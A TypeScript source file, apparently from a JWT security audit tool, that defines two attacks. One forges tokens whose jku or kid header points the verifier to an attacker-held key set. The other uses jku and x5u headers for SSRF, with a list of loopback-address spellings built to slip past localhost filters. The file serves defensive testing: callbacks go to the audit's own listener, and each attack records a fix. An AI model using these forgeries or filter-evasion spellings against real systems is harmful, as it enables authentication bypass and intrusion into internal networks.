import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { type AttackerKey, attackerForgery, attackerKey, likelyAlg, likelyAlgs } from '../attacker-forgery.ts';
import { keySetAnswer } from '../attacker-key-set.ts';
import type { JsonObject } from '../known-token.ts';

/** C04. */
export const keySetAddress: TokenAttack = {
  kind: 'token',
  id: 'C04',
  title: "The token says where its key is: jku leads to the attacker's key set",
  severity: 'critical',
  cwe: 347,
  source: ['RFC 7515 §4.1.2', 'RFC 8725 §3.10'],
  how: 'The header may name the address of the key set that the token is signed under. A verifier that goes there asks the attacker for the key, and the signature then holds. The audit puts a key set of its own on a loopback address and sees whether it is fetched, whatever becomes of the token.',
  victims: [],
  fix: 'Never fetch what a token names. The addresses of key sets come from configuration, one an issuer.',
  needs: ['callback'],
  expect: 'refused',
  forge: async (context) => {
    const known = context.good.header['kid'];
    const forgeries: Forgery[] = [];
    for (const alg of likelyAlgs(context).slice(0, context.reach === 'http' ? 2 : 4)) {
      const key = await attackerKey(context, alg);
      const name = alg.toLowerCase();
      const kids = { 'known-kid': known ?? 'default', 'own-kid': 'attacker', 'no-kid': undefined };
      for (const [label, kid] of Object.entries(kids)) {
        forgeries.push(await leading(context, key, `jku-${name}-${label}`, kid, (jku) => ({ kid, jku })));
      }
    }
    const key = await attackerKey(context, likelyAlg(context));
    const forms: Readonly<Record<string, (address: string) => JsonObject>> = {
      'jku-in-an-array': (jku) => ({ kid: 'attacker', jku: [jku] }),
      'jwks-uri': (address) => ({ kid: 'attacker', jwks_uri: address }),
      'jwks-url': (address) => ({ kid: 'attacker', jwks_url: address }),
      'kid-is-the-address': (address) => ({ kid: address }),
      'jku-beside-jwk': (jku) => ({ kid: 'attacker', jku, jwk: key.publicJwk }),
    };
    for (const [variant, header] of Object.entries(forms)) {
      forgeries.push(await leading(context, key, variant, 'attacker', header));
    }
    return forgeries;
  },
};

/** C07. */
export const innerAddress: TokenAttack = {
  kind: 'token',
  id: 'C07',
  title: 'The token makes the target fetch inner addresses (SSRF through jku, x5u)',
  severity: 'high',
  cwe: 918,
  source: ['RFC 8725 §3.10', 'RFC 7515 §4.1.2', 'RFC 7515 §4.1.5'],
  how: 'A verifier that fetches what a token names does so from inside the network, where it reaches services that no stranger does: its own machine, a database, the address that hands out cloud credentials. Filters that look for localhost or 127.0.0.1 miss the other spellings of the same address. The audit lets each spelling lead to its own listener and asks nobody else, the cloud address included.',
  victims: [{ what: 'Istio, where jwksUri is fetched', advisory: 'CVE-2026-41413' }],
  fix: 'Never fetch what a token names. For the addresses of configuration, resolve the name first and refuse loopback, private and link-local addresses unless they are meant.',
  needs: ['callback'],
  expect: 'refused',
  forge: async (context) => {
    const key = await attackerKey(context, likelyAlg(context));
    const forgeries: Forgery[] = [];
    for (const [host, write] of Object.entries(loopbackSpellings)) {
      for (const member of ['jku', 'x5u']) {
        const header = (address: string): JsonObject => ({ kid: 'attacker', [member]: write(new URL(address)) });
        forgeries.push(await leading(context, key, `${member}-${host}`, 'attacker', header));
      }
    }
    return forgeries;
  },
};

/** The listener's address in the spellings that a filter may not know. */
const loopbackSpellings: Readonly<Record<string, (address: URL) => string>> = {
  plain: ({ href }) => href,
  localhost: (address) => withHost(address, 'localhost'),
  'upper-case': (address) => withHost(address, 'LOCALHOST').replace('http:', 'HTTP:'),
  'short-form': (address) => withHost(address, '127.1'),
  decimal: (address) => withHost(address, '2130706433'),
  hexadecimal: (address) => withHost(address, '0x7f000001'),
  octal: (address) => withHost(address, '0177.0.0.1'),
  unspecified: (address) => withHost(address, '0.0.0.0'),
  'mapped-into-ipv6': (address) => withHost(address, '[::ffff:127.0.0.1]'),
  'full-width-digits': (address) => withHost(address, '１２７.０.０.１'),
  'trailing-dot': (address) => withHost(address, '127.0.0.1.'),
};

function withHost({ hostname, href }: URL, host: string): string {
  return href.replace(`//${hostname}`, `//${host}`);
}

/** A token signed by the attacker whose header leads to an address that serves his key set. */
async function leading(
  context: ForgeContext,
  key: AttackerKey,
  variant: string,
  kid: unknown,
  header: (address: string) => JsonObject,
): Promise<Forgery> {
  const callback = context.callbackUrl?.(variant, keySetAnswer(key, kid)) ?? '';
  return attackerForgery(context, key, variant, { header: header(callback), callback });
}
